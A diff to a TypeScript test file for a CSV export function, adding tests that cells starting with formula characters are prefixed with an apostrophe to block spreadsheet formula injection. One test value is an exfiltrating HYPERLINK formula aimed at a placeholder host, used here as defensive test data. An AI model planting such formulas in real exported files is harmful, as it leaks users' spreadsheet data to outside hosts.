@@ -29,12 +29,19 @@ const texts = fc.oneof(
 );
 
 describe('csvText()', () => {
-  it('gives back any text through a reader of the standard', () => {
+  it('gives back any text through a reader of the standard, formulas with an apostrophe', () => {
+    const shown = (text: string) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);
     fc.assert(
       fc.property(fc.array(fc.array(texts, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
-        expect(readCsv(csvText(rows))).toEqual(rows);
+        expect(readCsv(csvText(rows))).toEqual(rows.map((row) => row.map(shown)));
       }),
     );
+  });
+
+  it('has no text that a spreadsheet would compute, and leaves numbers as they are', () => {
+    const [link, ...cells] = ['=HYPERLINK("http://x/?"&A1,"x")', '+1', '-blurry', '@x', '\t=1', 'a=1', -1.5];
+    expect(csvText([[link]])).toBe('"\'=HYPERLINK(""http://x/?""&A1,""x"")"\r\n');
+    expect(csvText([cells])).toBe("'+1,'-blurry,'@x,'\t=1,a=1,-1.5\r\n");
   });
 
   it('leaves a cell empty where nothing was measured', () => {
